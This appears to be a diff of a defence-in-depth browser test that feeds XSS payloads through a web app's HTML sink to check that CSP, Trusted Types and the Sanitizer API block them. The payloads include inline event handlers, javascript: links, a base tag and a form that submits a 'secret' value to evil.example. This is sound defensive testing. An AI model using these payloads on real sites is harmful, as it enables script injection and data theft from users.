@@ -1,9 +1,9 @@
-// Defence in depth, tested: this page runs the real HTML sink (www/js/html-sink.js)
-// under the page's real CSP, but in a test build whose sanitiser lets every
-// payload through (the test serves a core.js whose sanitizeNow returns its
-// input). Each attempt below is something the sanitiser should have stopped;
-// the CSP and Trusted Types must stop it instead, and report a violation.
-import { loadCore } from '/www/js/core.js';
+// Defence in depth, tested: this page puts payloads through the real HTML
+// sink (www/js/html-sink.js) as if they had slipped past Lectern's sanitiser,
+// under the page's real CSP or without one. The test serves either the real
+// sink (the browser's Sanitizer API check must remove them) or a test build
+// of it whose checks let everything through (the CSP and Trusted Types must
+// stop them instead, and report a violation).
 import { setArticleHtml } from '/www/js/html-sink.js';
 
 window.__ran = [];
@@ -30,25 +30,23 @@ async function attempt(name, run) {
   }
 }
 
-await loadCore();
-
 // Through the one sink, with the sanitiser bypassed: the markup really lands.
-await attempt('inline handlers', () => {
-  setArticleHtml(container(), '<img id="slipped" src="/nonexistent.png" onerror="window.__ran.push(\'img onerror\'); alert(1)">'
+await attempt('inline handlers', async () => {
+  await setArticleHtml(container(), '<img id="slipped" src="/nonexistent.png" onerror="window.__ran.push(\'img onerror\'); alert(1)">'
     + '<svg><animate onbegin="window.__ran.push(\'svg onbegin\')" attributeName="x" dur="1s"></animate></svg>'
     + '<p onmouseover="window.__ran.push(\'onmouseover\')" id="hover">hover</p>');
 });
 await attempt('javascript: link', async () => {
-  setArticleHtml(container(), '<a id="js-link" href="javascript:window.__ran.push(\'javascript: link\')">x</a>');
+  await setArticleHtml(container(), '<a id="js-link" href="javascript:window.__ran.push(\'javascript: link\')">x</a>');
   document.getElementById('js-link').click();
 });
 await attempt('base element', () => setArticleHtml(container(), '<base href="https://evil.example/">'));
-await attempt('form to elsewhere', () => {
+await attempt('form to elsewhere', async () => {
   // Submitted into a frame of the test's own, so that without a CSP the page stays.
   const frame = document.createElement('iframe');
   frame.name = 'sink';
   document.body.append(frame);
-  setArticleHtml(container(), '<form id="f" target="sink" action="https://evil.example/steal"><input name="q" value="secret"></form>');
+  await setArticleHtml(container(), '<form id="f" target="sink" action="https://evil.example/steal"><input name="q" value="secret"></form>');
   document.getElementById('f').requestSubmit();
 });
 await attempt('plugin object', () => setArticleHtml(container(), '<object data="data:text/html,<script>parent.__ran.push(\'object\')</script>"></object>'));
@@ -72,8 +70,16 @@ await attempt('script element', () => {
 document.getElementById('hover')?.dispatchEvent(new MouseEvent('mouseover'));
 await wait(1000);
 
+const body = document.getElementById('article-body');
 window.__result = {
   attempts,
   slippedThrough: document.getElementById('slipped')?.getAttribute('onerror') ?? null,
   baseURI: document.baseURI,
+  // What of the payloads the sink let into the page.
+  landed: {
+    handlers: [...body.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${e.localName}[${a.name}]`)),
+    elements: [...body.querySelectorAll('script, style, svg, base, form, input, object, iframe')].map((e) => e.localName),
+    javascriptLinks: [...body.querySelectorAll('a[href]')].filter((a) => /^javascript:/i.test(a.getAttribute('href'))).length,
+    styled: body.querySelectorAll('[style]').length,
+  },
 };
